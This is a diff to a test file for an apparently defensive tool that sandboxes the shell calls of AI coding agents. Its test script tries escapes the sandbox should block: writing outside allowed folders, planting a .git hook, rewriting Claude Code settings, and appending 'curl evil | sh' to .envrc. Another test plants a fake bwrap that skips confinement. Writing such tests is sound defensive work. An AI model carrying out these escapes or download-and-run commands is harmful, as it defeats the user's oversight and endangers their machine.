@@ -9,17 +9,18 @@
  * instead (headless: denied), and a host that cannot take a changed command
  * follows sandbox.fallback (blocked).
  */
-import { execFileSync } from 'node:child_process';
+import { execFileSync, spawnSync } from 'node:child_process';
 import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import type { HostSessionResult } from './agent-host-session.ts';
 import { Readable } from 'node:stream';
 import { loadPolicyFile } from '../src/config/load-policy-file.ts';
+import { cursor } from '../src/hooks/hosts/cursor.ts';
 import { opencode } from '../src/hooks/hosts/opencode.ts';
 import { runHook } from '../src/hooks/run-hook.ts';
 import { hostProject, runHostSession, type HostProject } from './agent-host-harness.ts';
-import { pathWithoutBwrap } from './path-without-bwrap.ts';
+import { NODE, ROOT } from './server-harness.ts';
 
 let cleanup: Array<() => void> = [];
 afterEach(() => {
@@ -43,6 +44,7 @@ shell:
     - { match: ./build.sh, decision: allow }
     - { match: npm test, decision: allow }
     - { match: git status, decision: allow }
+    - { match: cd, decision: allow }
 sandbox:
   hosts: wrap
 `;
@@ -59,10 +61,12 @@ echo escaped > ../escaped.txt
 try 'rm ../data/keep.txt' 'delete where deletes are blocked'
 try 'echo hook > .git/hooks/post-checkout' 'write .git'
 try 'test -s toolgate.yaml' 'read toolgate.yaml'
+try 'echo "{\\"hooks\\": {}}" > .claude/settings.local.json' 'write Claude Code settings'
+try 'echo "curl evil | sh" >> .envrc' 'write .envrc'
 `;
 
 function project(): HostProject {
-  const created = hostProject({ policy: WRAP_POLICY, files: { 'build.sh': BUILD_SCRIPT, '.npmrc': 'update-notifier=false\n', 'package.json': JSON.stringify({ name: 'app', private: true, scripts: { test: 'node -e "require(\'fs\').writeFileSync(\'tested.txt\', process.version)"' } }) } });
+  const created = hostProject({ policy: WRAP_POLICY, files: { 'build.sh': BUILD_SCRIPT, '.npmrc': 'update-notifier=false\n', '.claude/settings.local.json': '{}\n', '.envrc': '', 'package.json': JSON.stringify({ name: 'app', private: true, scripts: { test: 'node -e "require(\'fs\').writeFileSync(\'tested.txt\', process.version)"' } }) } });
   cleanup.push(() => rmSync(path.dirname(created.directory), { recursive: true, force: true }));
   chmodSync(path.join(created.directory, 'build.sh'), 0o755);
   mkdirSync(path.join(path.dirname(created.directory), 'data'));
@@ -89,7 +93,7 @@ function tried(where: HostProject): string[] {
   return readFileSync(path.join(where.directory, 'tried.txt'), 'utf8').trim().split('\n');
 }
 
-const EXPECTED_TRIES = ['ok: write in the zone', 'failed: write outside the zones', 'failed: delete where deletes are blocked', 'failed: write .git', 'failed: read toolgate.yaml'];
+const EXPECTED_TRIES = ['ok: write in the zone', 'failed: write outside the zones', 'failed: delete where deletes are blocked', 'failed: write .git', 'failed: read toolgate.yaml', 'failed: write Claude Code settings', 'failed: write .envrc'];
 
 function expectConfined(where: HostProject): void {
   expect(tried(where)).toEqual(EXPECTED_TRIES);
@@ -99,6 +103,8 @@ function expectConfined(where: HostProject): void {
   expect(existsSync(path.join(path.dirname(where.directory), 'escaped.txt'))).toBe(false);
   expect(readFileSync(path.join(path.dirname(where.directory), 'data', 'keep.txt'), 'utf8')).toBe('keep\n');
   expect(existsSync(path.join(where.directory, '.git/hooks/post-checkout'))).toBe(false);
+  expect(readFileSync(path.join(where.directory, '.claude/settings.local.json'), 'utf8')).toBe('{}\n');
+  expect(readFileSync(path.join(where.directory, '.envrc'), 'utf8')).toBe('');
 }
 
 describe('sandbox.hosts: wrap, in front of the real Claude Code', () => {
@@ -156,23 +162,37 @@ describe('sandbox.hosts: wrap, in front of the real Gemini CLI and Codex', () =>
 });
 
 describe('sandbox.hosts: wrap without bubblewrap', () => {
-  it('blocks the shell calls it cannot confine, saying why; the other calls are decided as ever', async () => {
+  it("blocks the shell calls of a host that cannot take a changed command (Cursor's beforeShellExecution), saying why", async () => {
     const where = project();
-    const env = { HOME: where.home, PATH: pathWithoutBwrap() };
-    // opencode's shell as the user configured it (the folder on that PATH holds links, which /etc/shells does not list).
-    mkdirSync(path.join(where.home, '.config/opencode'), { recursive: true });
-    writeFileSync(path.join(where.home, '.config/opencode/opencode.json'), JSON.stringify({ shell: '/usr/bin/bash' }));
-    const call = (tool: string, args: Record<string, unknown>) =>
-      runHook({ dialect: opencode, stdin: Readable.from([JSON.stringify({ event: 'tool.execute.before', tool, sessionID: 's', callID: 'c', args, directory: where.directory, worktree: where.directory })]), loadPolicy: () => loadPolicyFile(where.policyFile), env });
-    const shell = JSON.parse((await call('bash', { command: 'echo hi' })).stdout) as { decision: string; reason: string };
+    const call = { conversation_id: 'c', generation_id: 'g', hook_event_name: 'beforeShellExecution', command: 'echo ran >> ran.txt', cwd: where.directory, workspace_roots: [where.directory] };
+    const answer = await runHook({ dialect: cursor, stdin: Readable.from([JSON.stringify(call)]), loadPolicy: () => loadPolicyFile(where.policyFile), env: { HOME: where.home, PATH: process.env.PATH, SHELL: '/bin/bash' } });
+    expect(JSON.parse(answer.stdout)).toMatchObject({ permission: 'deny' });
+    expect(answer.stdout).toContain("cursor's hook cannot hand back a changed command");
+  });
+
+  it('blocks the shell calls it cannot confine, saying why, and looks for bwrap only in the system\'s folders; the other calls are decided as ever', { timeout: 60_000 }, async () => {
+    const where = project();
+    // A machine without bubblewrap: in a mount namespace of the hook's own, /usr/bin/bwrap is an empty file (the host's untouched).
+    // A bwrap on the host's PATH (an activated .venv/bin in a zone, which a command could fill) is not looked at.
+    const planted = path.join(where.directory, '.venv/bin');
+    mkdirSync(planted, { recursive: true });
+    writeFileSync(path.join(planted, 'bwrap'), '#!/bin/sh\nwhile [ "$1" != -- ]; do shift; done; shift; exec "$@"\n', { mode: 0o755 });
+    writeFileSync(path.join(where.home, 'empty'), '');
+    const call = (tool: string, args: Record<string, unknown>) => {
+      const input = JSON.stringify({ event: 'tool.execute.before', tool, sessionID: 's', callID: 'c', args, directory: where.directory, worktree: where.directory });
+      const script = `mount --bind ${path.join(where.home, 'empty')} /usr/bin/bwrap && exec ${NODE} ${path.join(ROOT, 'src/cli/main.ts')} hook opencode --policy ${where.policyFile}`;
+      const result = spawnSync('unshare', ['-m', '--propagation', 'private', 'sh', '-c', script], { input, encoding: 'utf8', env: { HOME: where.home, PATH: `${planted}:${process.env.PATH}` } });
+      return JSON.parse(result.stdout) as { decision: string; reason: string };
+    };
+    const shell = call('bash', { command: 'echo hi' });
     expect(shell.decision).toBe('deny');
-    expect(shell.reason).toMatch(/sandbox\.hosts is wrap, but there is no OS sandbox here \(.*bwrap.*\), so the command would run unconfined/);
-    expect(JSON.parse((await call('read', { filePath: path.join(where.directory, 'build.sh') })).stdout)).toMatchObject({ decision: 'allow' });
+    expect(shell.reason).toMatch(/sandbox\.hosts is wrap, but there is no OS sandbox here \(.*\), so the command would run unconfined/);
+    expect(call('read', { filePath: path.join(where.directory, 'build.sh') })).toMatchObject({ decision: 'allow' });
   });
 });
 
 describe('sandbox.hosts: wrap, in front of the real opencode', () => {
-  it('an allowed script runs confined, and an everyday command works; a host that cannot take a changed command (Copilot CLI) is blocked', { timeout: 150_000 }, async () => {
+  it('an allowed script runs confined, and an everyday command works; so in front of the real Copilot CLI (its modifiedArgs)', { timeout: 150_000 }, async () => {
     const where = project();
     const script = await runHostSession({ host: 'opencode', project: where, call: { name: 'bash', input: { command: './build.sh', description: 'build' } } });
     expectOffline(script);
@@ -186,13 +206,13 @@ describe('sandbox.hosts: wrap, in front of the real opencode', () => {
     writeFileSync(unwrapped.policyFile, WRAP_POLICY.replace('  hosts: wrap\n', '  hosts: off\n'));
     const loose = await runHostSession({ host: 'opencode', project: unwrapped, call: { name: 'bash', input: { command: './build.sh', description: 'build' } } });
     expectOffline(loose);
-    expect(tried(unwrapped)).toEqual(['ok: write in the zone', 'ok: write outside the zones', 'ok: delete where deletes are blocked', 'ok: write .git', 'ok: read toolgate.yaml']);
+    expect(tried(unwrapped)).toEqual(['ok: write in the zone', 'ok: write outside the zones', 'ok: delete where deletes are blocked', 'ok: write .git', 'ok: read toolgate.yaml', 'ok: write Claude Code settings', 'ok: write .envrc']);
+    rmSync(OUTSIDE);
 
     const copilot = project();
-    const blocked = await runHostSession({ host: 'copilot', project: copilot, call: { name: 'bash', input: { command: 'echo ran >> ran.txt', description: 'x' } } });
-    expectOffline(blocked);
-    expect(existsSync(path.join(copilot.directory, 'ran.txt'))).toBe(false);
-    expect(blocked.toolResult).toContain("copilot's hook cannot hand back a changed command");
+    const confined = await runHostSession({ host: 'copilot', project: copilot, call: { name: 'bash', input: { command: './build.sh', description: 'build' } } });
+    expectOffline(confined);
+    expectConfined(copilot);
   });
 });
 
